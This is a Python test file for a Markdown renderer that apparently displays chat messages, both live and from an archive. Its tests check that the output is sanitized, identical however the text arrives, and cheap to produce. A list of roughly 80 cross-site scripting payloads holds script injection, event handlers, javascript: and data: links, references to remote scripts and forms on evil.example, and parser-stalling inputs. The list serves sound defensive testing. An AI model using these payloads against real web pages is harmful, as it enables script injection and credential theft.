"""Markdown of models and people: rendered the same live and from the archive, at a linear cost, and never a script."""

from __future__ import annotations

from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from components import markdown
from components.markdown import LONGEST_BLOCK, LiveMarkdown, Patch, render
from tests.screen import Screen

ALLOWED = set(
    'p br hr em strong s del code pre blockquote ul ol li h1 h2 h3 h4 h5 h6 table thead tbody tr th td a'.split()
)
ALLOWED_ATTRIBUTES = {
    ('a', 'href'), ('a', 'title'), ('a', 'rel'), ('ol', 'start'), ('code', 'class'), ('th', 'align'), ('td', 'align'),
}  # fmt: skip
SCHEMES = ('http:', 'https:', 'mailto:')

PAYLOADS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="javascript:alert(1)">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<math><mi xlink:href="data:x,<script>alert(1)</script>"></mi></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="javascript:alert(1)">
<embed src="data:text/html,<script>alert(1)</script>">
<form action="https://evil.example"><input name=password></form>
<button formaction=javascript:alert(1)>press</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<style>@import 'https://evil.example/x.css';</style>
<p style="background:url(javascript:alert(1))">x</p>
<div style="position:fixed;inset:0">x</div>
<link rel=stylesheet href=https://evil.example/x.css>
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href="https://evil.example/">
<body onload=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<!--<img src="--><img src=x onerror=alert(1)>">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<a href="javascript:alert(1)">x</a>
<a href=x onclick=alert(1)>x</a>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&#58;alert(1))
[x](javascript&colon;alert(1))
[x](java	script:alert(1))
[x](\x01javascript:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg onload=alert(1)>)
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](//evil.example)
[x](/settings)
[x](settings?key=1)
[x](#top)
[x](https://a.example" onmouseover="alert(1))
[x](https://a.example 'title" onmouseover="alert(1)')
[x]: javascript:alert(1)
<javascript:alert(1)>
<https://a.example/"onmouseover="alert(1)>
![x](https://evil.example/pixel.png)
![x](javascript:alert(1))
![x](x" onerror="alert(1))
![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
```"><script>alert(1)</script>
``` x" onclick="alert(1)
~~~<img src=x onerror=alert(1)>
`<img src=x onerror=alert(1)>`
`</code><script>alert(1)</script>`
    <script>alert(1)</script>
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
# <svg onload=alert(1)>
| <script>alert(1)</script> | x |
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script>alert(1)</script>
**<script>alert(1)</script>**
<style><img src="</style><img src=x onerror=alert(1)>">
<textarea></textarea><script>alert(1)</script>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
{{constructor.constructor('alert(1)')()}}
""".strip('\n').split('\n')


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


@pytest.mark.parametrize('payload', PAYLOADS)
def test_nothing_that_runs_or_loads_or_leads_astray_passes(payload: str) -> None:
    payload = payload.replace('\\x01', '\x01')
    for around in ('{}', 'Look:\n\n{}\n\nNice.', '- one\n- {}\n', '> {}', '| a | b |\n|---|---|\n| {} | x |'):
        assert faults(render(around.replace('{}', payload))) == []
    live = LiveMarkdown()
    for letter in payload:
        patch = live.feed(letter)
        assert faults(patch.done + (patch.open or '')) == []


def test_the_check_itself_bites() -> None:
    for html in ('<script>', '<p onclick=x>', '<a href="javascript:x">', '<a href="/x">', '<img src=x>', '<p style=x>'):
        assert faults(html)


def test_html_and_images_in_a_text_are_text() -> None:
    text = '<b>bold</b> <script>alert(1)</script> a < b'
    assert Screen().show(Patch(done=render(text))).text.strip() == text
    assert Screen().show(Patch(done=render('![A cat](https://a.example/cat.png)'))).text.strip() == '!A cat'


def test_links_and_marks_do_pass() -> None:
    html = render('[Ada](https://a.example/?a=1&b=2 "Hello") and **bold** `x < y` <mailto:a@a.example>')
    assert '<a href="https://a.example/?a=1&amp;b=2" title="Hello" rel="noopener noreferrer nofollow">Ada</a>' in html
    assert '<strong>bold</strong> <code>x &lt; y</code> <a href="mailto:a@a.example"' in html


def test_a_transcript_looks_as_expected() -> None:
    text = '# Soup\n\nSalt,\nthen *wait*.\n\n- one\n- two\n\n```python\nx = 1\n\ny = 2\n```\n'
    text += '\n| a | b |\n|---|---|\n| 1 | 2 |'
    html = render(text)
    assert html.startswith(
        '<h1>Soup</h1>\n<p>Salt,<br>\nthen <em>wait</em>.</p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>'
    )
    assert '<pre><code class="language-python">x = 1\n\ny = 2\n</code></pre>' in html
    assert '<td>2</td>' in html


pieces = st.sampled_from([
    'Time ', 'is', ' a', ' river', '. ', '\n', '\n\n', '\n\n\n', '  ', '    ', '*', '**', '_', '`', '```', '```\n',
    '~~~', '```py\n', '- ', '* ', '1. ', '2) ', '10', '> ', '# ', '## ', '|', '| a | b |\n|---|---|\n', '---', '===',
    '[x](https://a.example)', '[', '](', '<', '>', '<b>', '&', '&amp;', '\\', '~~', ':', '\t', 'é漢🙂', '\r\n',
    '\u2028', '<!--', '-', '+', '1', '.', 'a*b_c', '!',
])  # fmt: skip
texts = st.lists(pieces, max_size=30).map(''.join)
cuts = st.lists(st.integers(0, 120), max_size=20)


def split(text: str, at: list[int]) -> list[str]:
    places = sorted({0, len(text), *(min(place, len(text)) for place in at)})
    return [text[start:end] for start, end in pairwise(places)]


@given(texts, cuts)
@example('- a\n\n1', [5])
@example('```\na\n\n```\n\nb', [4, 7])
def test_live_and_archive_are_the_same_however_it_arrives(text: str, at: list[int]) -> None:
    live = LiveMarkdown()
    patches = [*map(live.feed, split(text, at)), live.finish()]
    assert ''.join(patch.done for patch in patches) == live.done == render(text)
    assert patches[-1].open == ''


@given(texts, cuts)
def test_who_comes_late_sees_what_all_others_see(text: str, at: list[int]) -> None:
    live, early = LiveMarkdown(), Screen()
    for delta in split(text, at):
        early.show(live.feed(delta))
        assert Screen().show(live.whole()).html == early.html
    early.show(live.finish())
    assert early.html == Screen().show(Patch(done=render(text))).html


@given(texts.filter(lambda text: not set('[<&`~') & set(text)), cuts)
def test_every_letter_that_arrived_is_on_the_screen(text: str, at: list[int]) -> None:
    live, screen, arrived = LiveMarkdown(), Screen(), ''
    for delta in split(text, at):
        arrived += delta
        screen.show(live.feed(delta))
        assert letters(screen.text) == letters(arrived)


def letters(text: str) -> str:
    return ''.join(filter(str.isalpha, text))


def test_finished_blocks_are_never_sent_again() -> None:
    live = LiveMarkdown()
    paragraphs = [f'Paragraph {number} of *many*.' for number in range(50)]
    sent = [live.feed(letter) for letter in '\n\n'.join(paragraphs)] + [live.finish()]
    for number in range(50):
        assert sum(f'Paragraph {number} of <em>many</em>' in patch.done for patch in sent) == 1
    assert max(len(patch.open or '') for patch in sent) < 60


@pytest.fixture
def rendered(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """The lengths of all blocks that are to be rendered. They are counted instead: parsing them would take its time."""
    counted: list[int] = []

    def count(text: str) -> str:
        counted.append(len(text))
        return '<p>counted</p>'

    monkeypatch.setattr(markdown, 'render_block', count)
    return counted


@pytest.mark.parametrize(('word', 'opening', 'most'), [
    ('river ', '', 3),
    ('*river* ', '', 15),
    ('`x` ', '', 25),
    ('river_\n', '', 15),
    ('x = 1\n', '```python\n', 1),
    ('x = `1`\n', '```python\n', 15),
    ('| 1 | 2 |\n', '| a | b |\n|---|---|\n', 15),
    ('- one\n', '', 15),
    ('> so\n', '', 25),
])  # fmt: skip
def test_the_cost_of_a_word_does_not_grow_with_the_message(
    rendered: list[int], word: str, opening: str, most: int
) -> None:
    """Characters rendered for each character said, whether the block has 30 kB or 60 kB."""
    for length in (30_000, 60_000):
        rendered.clear()
        live = LiveMarkdown()
        live.feed(opening)
        for _ in range(length // len(word)):
            live.feed(word)
        assert sum(rendered) < most * length


@pytest.mark.parametrize(
    'hostile', ['[' * 40_000, '*' * 40_000, '>' * 40_000, '- ' * 20_000, '![](' * 10_000, '`x' * 20_000, '&' * 40_000]
)
def test_a_hostile_line_is_shown_as_it_is(hostile: str) -> None:
    """What would hold a parser for seconds is not parsed."""
    html = render(hostile)
    assert faults(html) == []
    assert Screen().show(Patch(done=html)).text.strip() == hostile.strip()


def test_a_long_block_is_plain_and_still_clean() -> None:
    html = render('<script>alert(1)</script> ' * (LONGEST_BLOCK // 20))
    assert faults(html) == []
    assert html.startswith('<p>&lt;script')


def faults(html: str) -> list[str]:
    """What stands in the html that may not."""
    found: list[str] = []

    class Check(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag not in ALLOWED:
                found.append(tag)
            for name, value in attrs:
                if (tag, name) not in ALLOWED_ATTRIBUTES:
                    found.append(f'{tag} {name}')
                if name == 'href' and not (value or '').lower().startswith(SCHEMES):
                    found.append(f'href {value}')

        def handle_comment(self, data: str) -> None:
            found.append(f'comment {data}')

        def handle_decl(self, decl: str) -> None:
            found.append(f'declaration {decl}')

        def handle_pi(self, data: str) -> None:
            found.append(f'instruction {data}')

    Check().feed(html)
    return found
